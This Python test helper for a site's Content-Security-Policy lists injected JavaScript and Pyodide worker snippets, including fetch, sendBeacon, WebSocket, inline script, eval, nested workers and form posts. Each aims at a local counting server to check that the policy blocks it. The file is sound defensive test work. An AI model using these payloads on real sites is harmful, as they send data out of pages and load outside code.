"""Attacks on the policy of the pages and of the worker, and a foreign origin that counts who reaches it.

tests/test_policy.py makes each of them twice: as the site is, when none may get through, and without its policy, when
each must: an attack that never works proves nothing.
"""

import re
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import IO
from urllib.parse import urlsplit

from playwright.sync_api import Page

from tests.site import PREFIX, Handler, Site, serve

POLICY = re.compile(rb'<meta http-equiv="Content-Security-Policy"[^>]*>')
SETTLE = 1500  # milliseconds in which a request that was not blocked arrives

# Those that leave the page are last. What an attacker has who could put something into a page: JavaScript that the browser's tools run, which no policy
# stops from starting. `foreign` is an address that must not be asked; `got` is to be called by what must not run.
# Each names the directive that stops it.
PAGE_ATTACKS: dict[str, tuple[str, str]] = {
    "fetch": ("connect-src", "fetch(foreign).catch(() => {})"),
    "xhr": ("connect-src", "const x = new XMLHttpRequest(); x.open('GET', foreign); x.send()"),
    "beacon": ("connect-src", "navigator.sendBeacon(foreign, 'secret')"),
    "websocket": ("connect-src", "new WebSocket(foreign.replace('http', 'ws'))"),
    "eventsource": ("connect-src", "new EventSource(foreign)"),
    "ping": (
        "connect-src",
        # the theme would take the click for itself
        "const a = add('a', { href: '#here', ping: foreign }); a.addEventListener('click', (event) => event.stopPropagation()); a.click()",
    ),
    "inline-script": ("script-src-elem", "add('script', { textContent: 'got()' })"),
    "inline-module": ("script-src-elem", "add('script', { type: 'module', textContent: 'got()' })"),
    "handler": ("script-src-attr", "html('<img src=data:, onerror=got()>')"),
    "handler-of-click": (
        "script-src-attr",
        "html('<button onclick=got()>x</button>').querySelector('button').click()",
    ),
    "javascript-url": ("script-src-elem", "add('a', { href: 'javascript:got()' }).click()"),
    "foreign-script": ("script-src-elem", "add('script', { src: foreign + '.js' })"),
    "data-script": ("script-src-elem", "add('script', { src: 'data:text/javascript,got()' })"),
    "import": ("script-src-elem", "import(foreign + '.js').catch(() => {})"),
    "import-data": ("script-src-elem", "import('data:text/javascript,got()').catch(() => {})"),
    "preload": ("script-src-elem", "add('link', { rel: 'modulepreload', href: foreign + '.js' })"),
    "eval": ("script-src", "setTimeout(() => eval('got()'))"),
    "function": ("script-src", "setTimeout(() => new Function('got()')())"),
    "timeout": ("script-src", "try { setTimeout('got()') } catch {}"),
    "foreign-style": ("style-src-elem", "add('link', { rel: 'stylesheet', href: foreign + '.css' })"),
    "inline-style": (
        "style-src-elem",
        "add('style', { textContent: 'body { --got: 1 }' }); if (look('--got')) got()",
    ),
    "style-attribute": (
        "style-src-attr",
        "if (getComputedStyle(html('<i style=\"--got: 1\">x</i>').firstChild).getPropertyValue('--got')) got()",
    ),
    "image": ("img-src", "new Image().src = foreign"),
    "svg-image": ("img-src", "html(`<svg><image href='${foreign}' width='9' height='9'/></svg>`)"),
    "font": ("font-src", "new FontFace('x', `url(${foreign})`).load().catch(() => {})"),
    "audio": ("media-src", "add('audio', { src: foreign, preload: 'auto' }).load()"),
    "frame": ("frame-src", "add('iframe', { src: foreign })"),
    # what these do is told where they are; of it, nothing must arrive
    "frame-of-text": ("", "add('iframe', { srcdoc: '<script>parent.got()</' + 'script>' })"),
    "worker-fetch": ("", "worker(`fetch('${foreign}')`)"),
    "worker-import": ("", "worker(`importScripts('${foreign}.js')`)"),
    "worker-of-worker": (
        "",
        "worker(`new Worker(URL.createObjectURL(new Blob([\"fetch('${foreign}')\"])))`)",
    ),
    "object": ("object-src", "add('object', { data: foreign, type: 'text/html' })"),
    "embed": ("object-src", "add('embed', { src: foreign, type: 'text/html' })"),
    "data-worker": (
        "worker-src",
        "try { new Worker('data:text/javascript,postMessage(1)').onmessage = got } catch {}",
    ),
    "base": (
        "base-uri",
        "add('base', { href: foreign + '/' }, document.head); if (document.baseURI.startsWith(foreign)) got()",
    ),
    "form": (
        "form-action",
        "const f = add('form', { action: foreign, method: 'post' }); f.append(document.createElement('input')); f.submit()",
    ),
}
HELP = """
  const got = globalThis.got = () => tellGot(name);
  const add = (tag, attributes, parent = document.body) => {
    const made = Object.assign(document.createElement(tag), attributes);
    if (attributes.ping) made.ping = attributes.ping;
    parent.append(made);
    return made;
  };
  const html = (text) => { const made = add('div', {}); made.innerHTML = text; return made; };
  const look = (name) => getComputedStyle(document.body).getPropertyValue(name);
  const worker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
"""
LISTEN = """() => {
  globalThis.violations = [];
  document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
}"""

# What a program in the Run panel may try, which has the worker's `js`: by name, its Python; FOREIGN and SITE are addresses.
WORKER_ATTACKS: dict[str, str] = {
    "fetch": "js.fetch('FOREIGN')",
    "xhr": "x = js.XMLHttpRequest.new(); x.open('GET', 'FOREIGN', False); x.send()",
    "websocket": "js.WebSocket.new('FOREIGN'.replace('http', 'ws'))",
    "eventsource": "js.EventSource.new('FOREIGN')",
    "font": "js.FontFace.new('x', 'url(FOREIGN)').load()",
    "open-url": "from pyodide.http import open_url; open_url('FOREIGN')",
    "load-package": "import pyodide_js; pyodide_js.loadPackage('FOREIGN-1-py3-none-any.whl')",
    "eval": "js.eval(\"fetch('FOREIGN')\")",
    "function": "js.Function.new(\"fetch('FOREIGN')\")()",
    "run-js": "from pyodide.code import run_js; run_js(\"fetch('FOREIGN')\")",
    "timeout": "js.setTimeout(\"fetch('FOREIGN')\", 0)",
    "data-worker": "js.Worker.new(\"data:text/javascript,fetch('FOREIGN')\")",
    "foreign-worker": "js.Worker.new('FOREIGN.js')",
    "nested-fetch": "nested(\"fetch('FOREIGN')\")",
    "nested-import-scripts": "nested(\"importScripts('FOREIGN.js')\")",
    "nested-import": "nested(\"import('FOREIGN.js')\")",
    "nested-module": "nested(\"import 'FOREIGN.js'\", 'module')",
    "nested-eval": 'nested("eval(\\"fetch(\'FOREIGN\')\\")")',
    "nested-nested": ('nested("new Worker(URL.createObjectURL(new Blob([\\"fetch(\'FOREIGN\')\\"])))")'),
}
# cannot work even without a policy: browsers refuse them by themselves
NEVER = {"foreign-worker"}
# it keeps the page from hearing of its end: the workers that it makes can go on only when it gives way
PROGRAM = """import js
from pyodide.ffi import create_proxy, to_js


def options(**given):
    return js.Object.fromEntries(to_js(list(given.items())))


def nested(code, kind="classic"):
    blob = js.Blob.new(to_js([code]), options(type="text/javascript"))
    return js.Worker.new(js.URL.createObjectURL(blob), options(type=kind))


"""


# our own script as a worker made from a file, which has no policy: it imports what it is told
FILE_WORKER = """async ([script, foreign]) => {
  const worker = new Worker(script, { type: "module" });
  worker.onerror = (event) => event.preventDefault();
  worker.postMessage({ script: `${foreign}/file-worker.js`, glue: `${foreign}/file-worker.js` });
}"""


class Foreign:
    """The origin that must not be reached: `url` without a slash at its end; `asked` counts, by the name in the path."""

    def __init__(self) -> None:
        asked = self.asked = Counter()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                name = urlsplit(self.path).path.strip("/").partition(".")[0].removesuffix("-1-py3-none-any")
                asked[name] += 1
                self.send_response(200)
                script = self.path.endswith(".js")
                self.send_header("Content-Type", "text/javascript" if script else "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@contextmanager
def foreign_origin() -> Iterator[Foreign]:
    """A foreign origin on a port of its own."""
    foreign = Foreign()
    try:
        yield foreign
    finally:
        foreign.server.shutdown()
        foreign.server.server_close()


class Bare(Handler):
    """Serves the site as it would be without its policy. (Made by the browser's tools, such a page may not ask loopback.)"""

    def copyfile(self, source: IO[bytes], outputfile: IO[bytes]) -> None:
        # as long as before, which has been told
        outputfile.write(POLICY.sub(lambda policy: b" " * len(policy[0]), source.read()))


@contextmanager
def bare(site: Site) -> Iterator[Site]:
    """The same site without its policy."""
    server = serve(site.folder.parent, Bare)
    try:
        yield Site(site.folder, f"http://127.0.0.1:{server.server_port}{PREFIX}")
    finally:
        server.shutdown()
        server.server_close()


def attack_page(page: Page, foreign: Foreign, name: str, policy: bool) -> list[str]:
    """Make one attack on a page that has heard LISTEN; the directives that the policy, if there is one, was told by."""
    directive, code = PAGE_ATTACKS[name]
    page.evaluate("violations.length = 0")
    page.evaluate(f"([foreign, name]) => {{ {HELP} {code} }}", [f"{foreign.url}/{name}", name])
    told: list[str] = []
    for _ in range(80 if policy and directive else 0):
        told = page.evaluate("violations")
        if told:
            break
        page.wait_for_timeout(25)
    return told


def program(foreign: Foreign, site: str) -> str:
    """A program that makes these attacks from the worker, says how each failed, and lets them go on."""
    tries = [
        f"try:\n    {WORKER_ATTACKS[name]}\nexcept BaseException as error:\n    print('{name}:', type(error).__name__)\n".replace(
            "FOREIGN", f"{foreign.url}/{name}"
        ).replace("SITE", site)
        for name in WORKER_ATTACKS
    ]
    return PROGRAM + "".join(tries) + "print('done')\njs.postMessage = create_proxy(lambda *_: None)\n"
